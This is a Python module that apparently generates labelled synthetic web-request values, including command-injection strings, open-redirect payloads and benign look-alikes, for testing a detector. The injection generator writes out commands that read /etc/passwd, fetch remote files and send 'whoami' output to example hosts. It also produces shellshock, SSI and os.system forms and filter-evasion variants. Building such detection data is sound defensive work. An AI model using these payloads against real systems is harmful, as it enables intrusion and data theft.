"""Additional request values: command injection, open redirects, and ordinary values that look hostile.

The hostile forms are the public ones of the OWASP Web Security Testing Guide (WSTG-INPV-12 command injection,
WSTG-CLNT-04 redirects), PayloadsAllTheThings and OWASP CRS; hosts are example domains and RFC 5737 addresses.
"""

from __future__ import annotations

import base64
import json
import random

from tools.synth.uri import REDIRECT_PARAMETERS, in_query, request_path
from tools.synth.words import EXAMPLE_DOMAINS, brand, person, sentence, syllables, word

Row = tuple[str, str, str]


def document_address(rng: random.Random) -> str:
    """Draw an address of the documentation networks (RFC 5737)."""
    return f"{rng.choice(('192.0.2', '198.51.100', '203.0.113'))}.{rng.randint(1, 254)}"


def _host(rng: random.Random) -> str:
    return rng.choice((document_address(rng), f"{word(rng)}.{rng.choice(EXAMPLE_DOMAINS)}", rng.choice(EXAMPLE_DOMAINS)))


def shell_command(rng: random.Random) -> str:
    """Draw a probing command as scanners send it."""
    seconds, host = rng.randint(2, 30), _host(rng)
    linux = (
        "id",
        "whoami",
        "uname -a",
        "cat /etc/passwd",
        "ls -la",
        "ls -la /",
        "cat /etc/hosts",
        "pwd",
        "ps aux",
        "env",
        "hostname",
        "w",
        "ifconfig",
        f"sleep {seconds}",
        f"ping -c {rng.randint(1, 20)} {host}",
        f"nslookup {host}",
        f"curl http://{host}/{word(rng)}",
        f"dig {host}",
        f"wget http://{host}/{word(rng)}.sh -O /tmp/{word(rng)}",
        f"echo {word(rng)}{rng.randrange(999)}",
        "cat /proc/version",
        "netstat -an",
        f"curl http://{host}/$(whoami)",
        "/bin/cat /etc/passwd",
        "/usr/bin/id",
        "cat${IFS}/etc/passwd",
        "c'a't /etc/passwd",
        "who$@ami",
        "/???/c?t /???/p??s??",
        "{cat,/etc/passwd}",
        f"wget -q http://{host}/{word(rng)}",
        "tail -n 5 /var/log/auth.log",
        "busybox id",
    )
    windows = (
        "dir",
        "dir C:\\",
        "ipconfig /all",
        "whoami /all",
        "net user",
        "systeminfo",
        "type C:\\Windows\\win.ini",
        "ver",
        "tasklist",
        "set",
        f"ping -n {rng.randint(1, 20)} {host}",
        f"timeout /t {seconds}",
        f"nslookup {host}",
        "type %SYSTEMROOT%\\win.ini",
        "net localgroup administrators",
        f'powershell -c "iwr http://{host}/{word(rng)}"',
        f"certutil -urlcache -f http://{host}/{word(rng)}.txt {word(rng)}.txt",
        "hostname",
    )
    return rng.choice(linux if rng.random() < 0.7 else windows)


def command_injection(rng: random.Random) -> Row:
    """Join a command to an ordinary value by a separator, a substitution or a line break."""
    command = shell_command(rng)
    value = rng.choice(
        ("", "", "1", word(rng), f"{word(rng)}.txt", document_address(rng), str(rng.randrange(10**4)), f"{word(rng)}@example.com")
    )
    quote = rng.choice(("", "", "", "'", '"', "')", '")'))
    forms = (
        f"{value}{quote};{command}",
        f"{value}{quote}; {command};",
        f"{value}{quote}|{command}",
        f"{value}{quote} | {command}",
        f"{value}{quote}||{command}",
        f"{value}{quote}&{command}",
        f"{value}{quote}&&{command}",
        f"{value}{quote} && {command} #",
        f"{value}`{command}`",
        f"{value}$({command})",
        f"{value}{quote}\n{command}",
        f"{value}{quote}%0a{command}",
        f"{value}{quote}%0d%0a{command}",
        f"{value}{quote};{command}|",
        f"{value}{quote};{command}%00",
        f"() {{ :; }}; {command}",
        f'<!--#exec cmd="{command}"-->',
        f"{value}';system('{command}');//",
        f"system('{command}')",
        f'exec("{command}")',
        f"__import__('os').system('{command}')",
        f"$(sh -c '{command}')",
        f"{value};bash -c '{command}'",
        f"{value}|cmd /c {command}",
        f"%26%20{command}",
        f"{value};{command.replace(' ', '${IFS}')}",
        f"{value}|{command.replace(' ', '$IFS$9')}",
        f"`{command}` {value}",
        f"{value}{quote} ; {command} ;{quote}",
    )
    return rng.choice(forms), "cmd-injection", "generated-cmd-injection"


def open_redirect(rng: random.Random) -> Row:
    """Aim a redirect at a foreign host by the usual parser tricks."""
    evil = rng.choice(
        (f"{rng.choice(('evil', 'attacker', word(rng)))}.{rng.choice(EXAMPLE_DOMAINS)}", document_address(rng), rng.choice(EXAMPLE_DOMAINS))
    )
    home = f"{rng.choice(('www.', 'shop.', 'login.', ''))}{brand(rng)}.{rng.choice(('com', 'net', 'de'))}"
    tail = rng.choice(("", "", "/", "/%2f..", "/%2e%2e", "/..", f"/{word(rng)}", "//"))
    forms = (
        f"//{evil}{tail}",
        f"///{evil}{tail}",
        f"////{evil}{tail}",
        f"/\\{evil}{tail}",
        f"\\/\\/{evil}{tail}",
        f"/%09/{evil}{tail}",
        f"/%5c{evil}{tail}",
        f"/%2f%2f{evil}{tail}",
        f"https:{evil}{tail}",
        f"http:///{evil}{tail}",
        f"https://{home}@{evil}{tail}",
        f"//{home}@{evil}{tail}",
        f"http://{home}.{evil}{tail}",
        f"https://{evil}%23.{home}",
        f"https://{evil}?{home}",
        f"https://{evil}\\.{home}",
        f"//{evil}%00.{home}",
        f"/.{evil}{tail}",
        f"//;@{evil}{tail}",
        f"〱{evil}",
        f"〵{evil}",
        f"//{evil.replace('.', '。')}",
        f"https:\\\\{evil}{tail}",
        f"http://[::ffff:{document_address(rng)}]{tail}",
        f"/https://{evil}{tail}",
    )
    value = rng.choice(forms)
    if rng.random() < 0.6:
        value = f"{request_path(rng)}?{rng.choice(REDIRECT_PARAMETERS)}={value}"
    return value, "open-redirect", "generated-open-redirect"


_SEARCHES = (
    "select a plan",
    "select from the list below",
    "union square hotels",
    "student union or guild",
    "drop off table for 2",
    "insert coin",
    "order by phone",
    "where to eat and drink",
    "how to use alert() in javascript",
    "sql select where null",
    "onclick event handler",
    "case when then else in excel",
    "order by date desc",
    "delete from cart",
    "update set top box",
    "like and share",
    "and 1 more",
    "5 or 6 people",
    "1 or 2 bedroom",
    "rock & roll",
    "cat food",
    "which dog",
    "who is who",
    "find my phone",
    "kill bill",
    "sleep 8 hours",
    "ping pong table",
    "head and tail",
    "curl hair",
    "man in black",
    "more or less",
    "touch id",
    "top 10",
    "c++ vs c#",
    "<3 music",
    "a < b and b > c",
    "if (x > 0) return y",
    'printf("%d")',
    "git diff HEAD~1..HEAD",
    "script writing course",
    "movie script pdf",
    "image src attribute",
    "body wash",
    "iframe or frame",
    "etc/passwd explained",
    "boot.ini windows xp",
    "what is ../ in a path",
    "100% cotton",
    "50%-off",
    "AT&T",
    "Q&A",
    "P&L; summary",
    "tom; dick; harry",
    "price|name|stock",
    "$5 gift",
    "100$ or less",
)
_SURNAMES = (
    "O'Brien",
    "O'Neill",
    "D'Angelo",
    "L'Oréal",
    "McDonald's",
    "O'Keefe",
    "Dell'Acqua",
    "N'Diaye",
    "Xi'an",
    "d'Arc",
    "Hawai'i",
    "O'Reilly & Sons",
)


def ordinary(rng: random.Random) -> Row:
    """Make an ordinary value with quotes, operators, keywords, markup-like or random-looking text."""
    day, number = f"{rng.randint(1990, 2026)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}", rng.randrange(10**5)
    name = f"{person(rng).capitalize()} {rng.choice(_SURNAMES)}"
    token = base64.urlsafe_b64encode(rng.randbytes(rng.randint(9, 48))).decode()
    shared = rng.choice(("https://www.{}.com/", "https%3A%2F%2F{}.de%2F", "http://{}.org/")).format(brand(rng))  # "share this page" links
    kind = rng.choices(
        ("search", "name", "prose", "maths", "json", "token", "date", "email", "path", "compare", "redirect", "list", "jwt", "code"),
        (8, 5, 6, 4, 4, 4, 3, 4, 3, 2, 5, 4, 2, 3),
    )[0]
    values = {
        "search": rng.choice(_SEARCHES) + rng.choice(("", "", f" {word(rng)}", f" {rng.randint(1, 2030)}")),
        "name": rng.choice(
            (
                name,
                name.upper(),
                f"{name}, {word(rng)}",
                f"the {word(rng)}'s {word(rng)}",
                f"{person(rng)}'s {word(rng)}",
                f'"{word(rng)} {word(rng)}"',
            )
        ),
        "prose": rng.choice(
            (
                sentence(rng).capitalize() + ".",
                f"I can't {sentence(rng, 3, 8)}; it's {word(rng)}!",
                f"{sentence(rng)} -- {sentence(rng)}",
                f"{sentence(rng)} ({sentence(rng)})?",
            )
        ),
        "maths": rng.choice(
            (
                f"{number}+{rng.randint(1, 99)}={number + 7}",
                f"x^2 - {rng.randint(1, 9)}x = 0",
                f"({number}*2)/3",
                f"a>{number} && b<5",
                f"{number}%{rng.randint(2, 9)}",
                "f(x) = sin(x) or cos(x)",
            )
        ),
        "json": json.dumps({word(rng): rng.choice((number, word(rng), [1, 2, number], None, True)), word(rng): word(rng)}),
        "token": rng.choice((token, token.rstrip("="), rng.randbytes(16).hex(), f"{number}-{token[:8]}", f"csrf_{token}")),
        "date": rng.choice(
            (
                day,
                f"{day}T{rng.randrange(24):02d}:{rng.randrange(60):02d}:00+00:00",
                f"{day}..{day}",
                f"{day} 10:00 or {day} 11:00",
                day.replace("-", "/"),
            )
        ),
        "email": rng.choice(
            (
                f"{person(rng)}.{syllables(rng, 2)}@example.com",
                f"{person(rng)}+{word(rng)}@example.org",
                f"o'{syllables(rng, 2)}@example.net",
                f"{name} <{person(rng)}@example.com>",
            )
        ),
        "path": rng.choice(
            (
                f"{word(rng)}/{word(rng)}.html",
                f"C:\\Users\\{person(rng)}\\Documents\\{word(rng)}.docx",
                f"/static/{word(rng)}..{word(rng)}.min.js",
                f"{word(rng)}.tar.gz",
            )
        ),
        "compare": f"{request_path(rng)}/compare/v1.{rng.randrange(9)}...v1.{rng.randrange(9)}",
        "redirect": f"{request_path(rng)}?{rng.choice(REDIRECT_PARAMETERS)}={rng.choice(('/', '%2F', shared))}"
        f"{word(rng)}{rng.choice(('', f'/{number}', '/index.html'))}",
        "list": rng.choice((",", ";", "|", " - ", " & ")).join(word(rng) for _ in range(rng.randint(2, 6))),
        "jwt": f"eyJhbGciOiJIUzI1NiJ9.{token.rstrip('=')}.{base64.urlsafe_b64encode(rng.randbytes(32)).decode().rstrip('=')}",
        "code": rng.choice(
            (
                f"{word(rng)}({word(rng)}, {number})",
                f"#{word(rng)} > .{word(rng)}",
                f"SELECT plan: {word(rng)}",
                f'{word(rng)} = "{word(rng)}";',
                f"**{word(rng)}** _{word(rng)}_",
                f"{word(rng)}[]={number}",
            )
        ),
    }
    return values[kind], "normal", f"generated-{kind}"


def generate(rng: random.Random, n: int) -> list[Row]:
    """Make ``n`` rows: half ordinary values, the rest command injection and open redirects, half of all inside a query."""
    rows: list[Row] = []
    for _ in range(n):
        text, label, family = rng.choices((ordinary, command_injection, open_redirect), (10, 6, 4))[0](rng)
        if rng.random() < 0.5 and not text.startswith("/"):
            text = in_query(rng, text, label)
        rows.append((text, label, family))
    return rows
